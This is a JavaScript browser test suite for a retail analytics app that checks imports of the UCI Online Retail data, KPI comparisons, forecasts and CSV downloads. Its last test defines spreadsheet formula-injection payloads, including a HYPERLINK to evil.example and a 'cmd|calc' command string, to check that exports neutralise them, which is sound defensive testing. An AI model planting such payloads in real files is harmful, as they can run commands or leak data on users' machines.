// Importing stores in the browser: the bundled sample, the full UCI file, the column mapping, CSV
// downloads. Expected numbers: helpers.mjs (SAMPLE from www/sample/README.md, FULL from the UCI
// reference: order level drops cancellations, Quantity <= 0 and UnitPrice <= 0; customer level
// also drops lines without CustomerID).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import {
  startEnv, newPage, crashes, importSample, importFiles, navigate, readCleaningReport, dataValue,
  dataValueChange, download, near, notBuilt, parseCsv, tmpDir, uciCsv, setFields, shot, SAMPLE, FULL, UCI_FILE, TEST_TIMEOUT,
} from './helpers.mjs';

let env;
before(async () => {
  env = await startEnv();
});
after(async () => {
  await env?.close();
});

function assertReport(r, exp, what) {
  assert.equal(r.olLines, exp.orderLevel.lines, `${what}: order-level lines`);
  assert.equal(r.olOrders, exp.orderLevel.orders, `${what}: order-level orders`);
  assert.ok(near(r.olRevenue, exp.orderLevel.revenue), `${what}: order-level revenue ${r.olRevenue} != ${exp.orderLevel.revenue}`);
  assert.equal(r.clLines, exp.customerLevel.lines, `${what}: customer-level lines`);
  assert.equal(r.clOrders, exp.customerLevel.orders, `${what}: customer-level orders`);
  assert.equal(r.clCustomers, exp.customerLevel.customers, `${what}: customer-level customers`);
  assert.ok(near(r.clRevenue, exp.customerLevel.revenue), `${what}: customer-level revenue ${r.clRevenue} != ${exp.customerLevel.revenue}`);
}

/** A KPI card's change against the period compared with: [text, 'good' | 'bad' | 'same']. */
async function kpiChange(page, k) {
  const el = page.locator(`[data-testid="kpi-${k}-change"]`);
  return [await el.innerText(), (await el.getAttribute('class')).replace('kpi-change ', '')];
}

function assertKpis(k, exp, what) {
  assert.ok(near(k.revenue, exp.orderLevel.revenue), `${what}: kpi-revenue ${k.revenue} != ${exp.orderLevel.revenue}`);
  assert.equal(k.orders, exp.orderLevel.orders, `${what}: kpi-orders`);
  assert.equal(k.customers, exp.orderLevel.customers, `${what}: kpi-customers`);
  assert.ok(near(k.aov, exp.orderLevel.revenue / exp.orderLevel.orders), `${what}: kpi-aov ${k.aov} != revenue / orders`);
  assert.ok(k.repeat >= 0 && k.repeat <= 100, `${what}: kpi-repeat ${k.repeat} is a share`);
  assert.ok(Number.isFinite(k.returns) && k.returns >= 0, `${what}: kpi-returns ${k.returns}`);
}

test('(a) the bundled sample imports and shows its known numbers', { timeout: TEST_TIMEOUT }, async () => {
  const { page, log, url, context } = await newPage(env);
  try {
    const kpis = await importSample(page, url);
    assertKpis(kpis, SAMPLE, 'sample');
    // The KPI cards also show formatted text, not only the raw data-value.
    const text = await page.locator('[data-testid="kpi-orders"]').innerText();
    assert.match(text.replace(/[\s,.\u202f\u00a0']/g, ''), /6206/, `kpi-orders text: ${text}`);
    // Over all dates every customer is new: no new / returning customer cards.
    assert.equal(await page.locator('[data-testid="kpi-new-customers"], [data-testid="kpi-returning"]').count(), 0);
    // The sample runs from Wednesday 1 June to Friday 30 September 2011 and the shop sells on
    // every day but Saturday: its first and last weeks are incomplete (paler bars, a note);
    // its months are whole.
    const trend = page.locator('section.card:has(h2:text("Revenue by week"))');
    assert.equal(await trend.locator('rect.bar.partial').count(), 2);
    assert.equal(await trend.locator('rect.bar').count(), 18);
    assert.equal(await page.locator('[data-testid="partial-periods"]').innerText(), 'Paler bars are incomplete weeks: the first week is counted from 1 Jun 2011; the last week up to 30 Sep 2011. They hold only part of a week on which the shop usually sells, so a lower bar there is not a drop in sales.');
    await trend.getByRole('button', { name: 'Monthly' }).click();
    await page.locator('section.card:has(h2:text("Revenue by month"))').waitFor();
    assert.equal(await page.locator('[data-testid="partial-periods"]').count(), 0);
    assert.equal(await page.locator('section.card:has(h2:text("Revenue by month")) rect.bar.partial').count(), 0);
    await page.locator('section.card:has(h2:text("Revenue by month"))').getByRole('button', { name: 'Weekly' }).click();
    // Postage, fees, adjustments and gift vouchers are listed apart from the top products: 14
    // codes worth 114,720.333 in pandas (benches/pandas_import.py's cleaning; the six gift
    // vouchers 358.33 of it); the top product is 22423.
    const fees = page.locator('[data-testid="non-products"] summary');
    await fees.waitFor();
    const feesText = await fees.innerText();
    assert.match(feesText, /not goods \(14\): DOTCOM POSTAGE, Manual, POSTAGE, …: \D?114,720\.33 of revenue/, feesText);
    const top = await page.locator('.table-wrap:has([data-testid="download-products"]) tbody tr').first().innerText();
    assert.match(top, /^22423\s+REGENCY CAKESTAND 3 TIER\s/, top);
    // Orders by weekday and hour (pandas: each invoice at its first line's time): hours 6–20,
    // the busiest cell Thursday 12:00 with 191 of 6,206 orders; no Saturday orders.
    const times = page.locator('[data-testid="buying-times"]');
    assert.equal(await times.locator('[data-testid="busiest"]').innerText(), 'Busiest hour: Thursday 12:00–13:00, 191 orders (3.1% of all).');
    assert.equal(await times.locator('svg rect').count(), 7 * 15);
    assert.equal(await times.locator('svg rect title').nth(3 * 15 + 6).textContent(), 'Thursday 12:00–12:59: 191 orders, revenue 86,296.71');
    await navigate(page, '/data');
    assertReport(await readCleaningReport(page), SAMPLE, 'sample');
    assert.deepEqual(crashes(log), []);
  } finally {
    await context.close();
  }
});

test('(a2) a date range is compared with the days before it', { timeout: TEST_TIMEOUT }, async () => {
  const { page, log, url, context } = await newPage(env);
  try {
    await importSample(page, url);
    // Aug–Sep 2011 (61 days) against 1 Jun – 31 Jul 2011. pandas on the same cleaning: revenue
    // 1,817,728.552 against 1,480,961.091 (+22.7%), orders 3,198 against 3,008 (+6.3%), repeat
    // rate 33.78% against 34.41% (−0.6 pp), returns rate 5.13% against 7.33% (−2.2 pp).
    await setFields(page, { 'date-from': '2011-08-01', 'date-to': '2011-09-30' });
    await page.waitForFunction(() => Number(document.querySelector('[data-testid="kpi-orders"]')?.getAttribute('data-value')) === 3198);
    await page.locator('[data-testid="kpi-returns-change"]').waitFor();
    assert.equal(await page.locator('[data-testid="previous-period"]').innerText(), 'Changes against the 61 days before: 1 Jun 2011 – 31 Jul 2011. It starts with the data, so every customer in it counts as new.');
    const change = (k) => kpiChange(page, k);
    assert.deepEqual(await change('revenue'), ['▲ +22.7%', 'good']);
    assert.deepEqual(await change('orders'), ['▲ +6.3%', 'good']);
    assert.deepEqual(await change('repeat'), ['▼ −0.6 pp', 'bad']);
    // Fewer returns is good news.
    assert.deepEqual(await change('returns'), ['▼ −2.2 pp', 'good']);
    assert.match(await page.locator('[data-testid="kpi-revenue-change"]').getAttribute('title'), /^1 Jun 2011 – 31 Jul 2011: 1,480,961\.09; change \+336,767\.46 \(\+22\.7%\)$/);
    // The revenue chart draws the days before as a line on the range's own weeks.
    const chart = page.locator('section.card:has(h2:text("Revenue by week"))');
    assert.deepEqual(await chart.locator('.legend-item').allInnerTexts(), ['Revenue', 'The days before']);
    assert.equal(await chart.locator('polyline.line.c1').count(), 1);
    assert.equal((await chart.locator('polyline.line.c1').getAttribute('points')).split(' ').length, await chart.locator('rect.bar').count());
    // The range starts on a Monday and ends on a Friday: only its last week (no Sunday 2
    // October) is incomplete.
    assert.equal(await chart.locator('rect.bar.partial').count(), 1);
    assert.match(await page.locator('[data-testid="partial-periods"]').innerText(), /^Paler bars are incomplete weeks: the last week up to 30 Sep 2011\. /);
    // Each product against its own sales then (pandas): 22423 20,153.58 against 23,732.50
    // (−15.1%), 85099B 19,680.89 against 13,501.85 (+45.8%).
    const products = page.locator('.table-wrap:has([data-testid="download-products"])');
    assert.equal(await products.locator('thead th').last().innerText(), 'Change vs before');
    const cells = async (sku) => (await products.locator('tbody tr').filter({ hasText: sku }).first().locator('td').allInnerTexts());
    assert.deepEqual((await cells('22423')).slice(-1), ['−15.1%']);
    assert.deepEqual((await cells('85099B')).slice(-1), ['+45.8%']);
    await shot(page, 'overview-range.png');
    await page.locator('[data-testid="lang-switch"]').click();
    await page.waitForFunction(() => document.documentElement.lang === 'zh-CN');
    assert.equal(await page.locator('[data-testid="previous-period"]').innerText(), '与之前 61 天（2011年6月1日 – 2011年7月31日）相比的变化。对比期从数据的第一天开始，因此其中所有客户都算作新客户。');
    assert.equal(await products.locator('thead th').last().innerText(), '较之前变化');
    await shot(page, 'zh-overview-range.png');
    await page.locator('[data-testid="lang-switch"]').click();
    await page.waitForFunction(() => document.documentElement.lang === 'en');
    // The same dates a year before are not in the sample (it starts on 1 Jun 2011): said, and no
    // changes; back to the days before, the changes return.
    await page.locator('[data-testid="compare-with"]').selectOption('year-before');
    await page.waitForFunction(() => document.querySelector('[data-testid="previous-period"]')?.innerText.includes('a year before'));
    assert.equal(await page.locator('[data-testid="previous-period"]').innerText(), 'No comparison with the same dates a year before (1 Aug 2010 – 30 Sep 2010): the data start on 1 Jun 2011.');
    assert.equal(await page.locator('[data-testid="kpi-revenue-change"]').count(), 0);
    assert.notEqual(await products.locator('thead th').last().innerText(), 'Change vs a year before');
    assert.deepEqual(await chart.locator('.legend-item').allInnerTexts(), ['Revenue']);
    await page.locator('[data-testid="compare-with"]').selectOption('days-before');
    await page.locator('[data-testid="kpi-revenue-change"]').waitFor();
    assert.deepEqual(await change('revenue'), ['▲ +22.7%', 'good']);
    // New customers (pandas: first purchase in the data in the range): 904 against 1,575 in
    // Jun–Jul, the sample's first months, where every customer is new to the data.
    assert.equal(await dataValue(page, 'kpi-new-customers'), 904);
    assert.deepEqual(await change('new-customers'), ['▼ −42.6%', 'bad']);
    // 49.1% of the range's customers had bought before it, none of Jun–Jul's (the data start).
    assert.equal(await dataValue(page, 'kpi-returning'), 0.491);
    assert.deepEqual(await change('returning'), ['▲ +49.1 pp', 'good']);
    // The chart's customer view: new customers as bars, returning ones as a line, per week.
    await page.locator('[data-testid="chart-customers"]').click();
    const custChart = page.locator('section.card:has(h2:text("New and returning customers by week"))');
    await custChart.waitFor();
    assert.deepEqual(await custChart.locator('.legend-item').allInnerTexts(), ['New customers', 'Returning customers']);
    assert.equal(await custChart.locator('rect.bar').count(), 9);
    await shot(page, 'overview-customers.png');
    await page.locator('[data-testid="chart-revenue"]').click();
    await chart.waitFor();
    // The whole data range: the days before it are not in the data, so no changes are shown.
    await setFields(page, { 'date-from': '2011-06-01' });
    await page.waitForFunction(() => Number(document.querySelector('[data-testid="kpi-orders"]')?.getAttribute('data-value')) === 6206);
    assert.equal(await page.locator('[data-testid="previous-period"]').innerText(), 'No comparison with the 122 days before (30 Jan 2011 – 31 May 2011): the data start on 1 Jun 2011.');
    assert.equal(await page.locator('[data-testid="kpi-revenue-change"]').count(), 0);
    assert.deepEqual(crashes(log), []);
  } finally {
    await context.close();
  }
});

test('(b) the full UCI Online Retail file (541,909 lines) imports with the reference numbers', { timeout: TEST_TIMEOUT }, async () => {
  assert.ok(fs.existsSync(UCI_FILE), `missing ${UCI_FILE} (../shared/data beside the checkout)`);
  const { page, log, url, context } = await newPage(env);
  try {
    const kpis = await importFiles(page, url, UCI_FILE);
    assertKpis(kpis, FULL, 'UCI');
    // Forecast per week: the shop was shut from 24 December 2010 to 3 January 2011, so the
    // weeks ahead keep the share of their sales made on the days it will open (pandas weekday
    // means, as in tests/forecast_cli.rs): 91% (the Sunday 25th lost), 0%, 64%.
    await navigate(page, '/forecast');
    await page.selectOption('[data-testid="fc-level"]', 'total');
    await page.selectOption('[data-testid="fc-freq"]', 'week');
    await page.selectOption('[data-testid="fc-model"]', 'naive');
    await page.click('[data-testid="fc-run"]');
    await page.locator('[data-testid="forecast-detail"][data-series="total"]').waitFor({ timeout: 300_000 });
    const fcNotes = await page.locator('[data-testid="forecast-detail"] ul.notes li').allInnerTexts();
    assert.ok(fcNotes.includes("The shop was closed from 2010-12-24 to 2011-01-03 a year before: the weeks ahead on those dates are forecast for the days it will open only, with the share of a week's sales those days make (2011-12-19 91%, 2011-12-26 0%, 2012-01-02 64%)."), JSON.stringify(fcNotes));
    const weeks = parseCsv((await download(page, 'download-forecast')).text);
    const wcol = (name) => weeks[0].indexOf(name);
    const week = (p) => Number(weeks.find((r) => r[wcol('period')] === p)?.[wcol('forecast')]);
    assert.equal(week('2011-12-26'), 0);
    assert.ok(Math.abs(week('2011-12-19') / week('2011-12-12') - 0.9061) < 5e-4, `${week('2011-12-19')} / ${week('2011-12-12')}`);
    await navigate(page, '/overview');
    // 1–9 Dec 2011 (the range is clipped to the data) against the same dates a year before.
    // pandas on the same cleaning: revenue 638,792.68 against 438,852.65 (+45.6%), 819 orders
    // against 834 (−1.8%), returns rate 32.11% against 13.98% (+18.1 pp, bad news); 22423
    // 6,006.87 against 13,478.98 (−55.4%), 23084 new.
    await setFields(page, { 'date-from': '2011-12-01', 'date-to': '2011-12-31' });
    await page.locator('[data-testid="compare-with"]').selectOption('year-before');
    await page.waitForFunction(() => document.querySelector('[data-testid="previous-period"]')?.innerText.startsWith('Changes against the same dates'));
    assert.equal(await page.locator('[data-testid="previous-period"]').innerText(), 'Changes against the same dates a year before: 1 Dec 2010 – 9 Dec 2010. It starts with the data, so every customer in it counts as new.');
    const change = (k) => kpiChange(page, k);
    assert.deepEqual(await change('revenue'), ['▲ +45.6%', 'good']);
    assert.deepEqual(await change('orders'), ['▼ −1.8%', 'bad']);
    assert.deepEqual(await change('returns'), ['▲ +18.1 pp', 'bad']);
    const products = page.locator('.table-wrap:has([data-testid="download-products"])');
    assert.equal(await products.locator('thead th').last().innerText(), 'Change vs a year before');
    const cells = async (sku) => (await products.locator('tbody tr').filter({ hasText: sku }).first().locator('td').allInnerTexts());
    assert.deepEqual((await cells('22423')).slice(-1), ['−55.4%']);
    assert.deepEqual((await cells('23084')).slice(-1), ['new']);
    const chart = page.locator('section.card:has(h2:text("Revenue by week"))');
    assert.deepEqual(await chart.locator('.legend-item').allInnerTexts(), ['Revenue', 'A year before']);
    assert.equal((await chart.locator('polyline.line.c1').getAttribute('points')).split(' ').length, 2);
    await shot(page, 'overview-year-before.png');
    await navigate(page, '/data');
    assertReport(await readCleaningReport(page), FULL, 'UCI');
    assert.deepEqual(crashes(log), []);
  } finally {
    await context.close();
  }
});

test('(c) the column mapping is detected and changing it updates the numbers', { timeout: TEST_TIMEOUT }, async () => {
  const { page, log, url, context } = await newPage(env);
  try {
    await importSample(page, url);
    await navigate(page, '/data');
    await page.locator('[data-testid="mapping-table"]').waitFor();
    const expected = { 0: 'order_id', 3: 'quantity', 5: 'unit_price', 6: 'customer_id' };
    for (const [col, key] of Object.entries(expected)) {
      assert.equal(await page.locator(`select[data-testid="map-col-${col}"]`).inputValue(), key, `map-col-${col}`);
    }
    const before = await dataValue(page, 'customer-level-customers');
    assert.equal(before, SAMPLE.customerLevel.customers);
    // Ignore the CustomerID column: every line becomes a guest line.
    await page.locator('select[data-testid="map-col-6"]').selectOption({ value: '' });
    const after = await dataValueChange(page, 'customer-level-customers', before, 120_000);
    assert.equal(after, 0, 'no customer ids once CustomerID is ignored');
    assert.equal(await dataValue(page, 'customer-level-lines'), 0);
    // Order level does not need customers: unchanged.
    assert.equal(await dataValue(page, 'order-level-orders'), SAMPLE.orderLevel.orders);
    // Map it back: the numbers come back.
    await page.locator('select[data-testid="map-col-6"]').selectOption({ value: 'customer_id' });
    assert.equal(await dataValueChange(page, 'customer-level-customers', 0, 120_000), SAMPLE.customerLevel.customers);
    assert.deepEqual(crashes(log), []);
  } finally {
    await context.close();
  }
});

// Spreadsheet formula injection: cells starting with = + - @ (tab, CR) must not be exported raw.
const FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', '+SUM(1,2)', '@cmd', '-2+3+cmd|calc'];

function formulaStore() {
  const rows = [];
  FORMULAS.forEach((desc, i) => {
    for (let d = 0; d < 3; d++) {
      rows.push([`5800${i}${d}`, `F${i}`, desc, 2 + d, `2011-0${i + 1}-1${d} 10:00:00`, '1.25', `1300${d}.0`, 'United Kingdom']);
    }
  });
  rows.push(['580099', 'N1', 'PLAIN MUG', 4, '2011-05-01 09:00:00', '2.50', '13000.0', 'France']);
  return uciCsv(rows);
}


function assertNoRawFormulas(rows, what) {
  for (const row of rows) {
    for (const cell of row) {
      for (const f of FORMULAS) {
        if (cell.includes(f.slice(1))) {
          assert.ok(!/^[=+\-@\t\r]/.test(cell), `${what}: cell ${JSON.stringify(cell)} starts with a formula character`);
        }
      }
    }
  }
}

test('(d) tables download as CSV, with formula injection neutralised', { timeout: TEST_TIMEOUT }, async (t) => {
  const dir = tmpDir();
  const store = path.join(dir, 'formulas.csv');
  fs.writeFileSync(store, formulaStore());
  const { page, log, url, context } = await newPage(env);
  try {
    await importFiles(page, url, store);
    await navigate(page, '/data');
    const cleaning = await download(page, 'download-cleaning');
    assert.match(cleaning.name, /\.csv$/i, cleaning.name);
    const crows = parseCsv(cleaning.text);
    assert.ok(crows.length >= 2 && crows[0].length >= 2, `cleaning CSV has a header and rows: ${cleaning.text.slice(0, 200)}`);

    // The products table (SKU, name, revenue, ...) is on the overview; /products has the rules.
    await navigate(page, '/overview');
    await page.locator('[data-testid="download-products"]').waitFor();
    const products = await download(page, 'download-products');
    assert.match(products.name, /\.csv$/i, products.name);
    const rows = parseCsv(products.text);
    const header = rows[0].map((h) => h.toLowerCase());
    assert.ok(header.some((h) => /stock|sku|product/.test(h)), `products header: ${rows[0].join(',')}`);
    assert.ok(rows.length >= 1 + FORMULAS.length, `products CSV rows: ${rows.length}`);
    assert.ok(rows.some((r) => r.some((c) => c.includes('HYPERLINK'))), 'the product names are in the CSV');
    assertNoRawFormulas(rows, 'products CSV');
    assert.deepEqual(crashes(log), []);
  } finally {
    await context.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
});
